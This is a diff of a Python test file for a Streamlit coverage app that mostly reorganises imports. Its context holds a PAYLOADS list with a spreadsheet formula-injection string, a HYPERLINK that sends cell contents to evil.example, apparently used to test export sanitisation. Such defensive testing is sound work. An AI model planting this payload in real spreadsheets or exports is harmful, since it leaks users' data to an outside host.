@@ -17,8 +17,14 @@ import pytest
 from sqlalchemy import update
 from streamlit.testing.v1 import AppTest
 
-from geo import auth, coverage, coverage_io, demo, export, settings, store, ticket_service as ts
-from geo.schema import Facility, Grid
+from geo import settings
+from geo.access import auth
+from geo.coverage import coverage, coverage_io
+from geo.demo import generator
+from geo.io import export
+from geo.db import store
+from geo.tickets import service as ts
+from geo.db.schema import Facility, Grid
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"点我查看")',
@@ -114,7 +120,7 @@ def downloads(monkeypatch) -> dict:
 def run_page(name: str, url: str, monkeypatch) -> AppTest:
     monkeypatch.setenv("DATABASE_URL", url)
     at = AppTest.from_file(str(settings.ROOT / "pages" / f"{name}.py"), default_timeout=180)
-    at.session_state["user"] = auth.authenticate(store.make_engine(url), "staff", demo.DEMO_PASSWORD,
+    at.session_state["user"] = auth.authenticate(store.make_engine(url), "staff", generator.DEMO_PASSWORD,
                                                  now=settings.now())
     at.run()
     assert not at.exception, at.exception
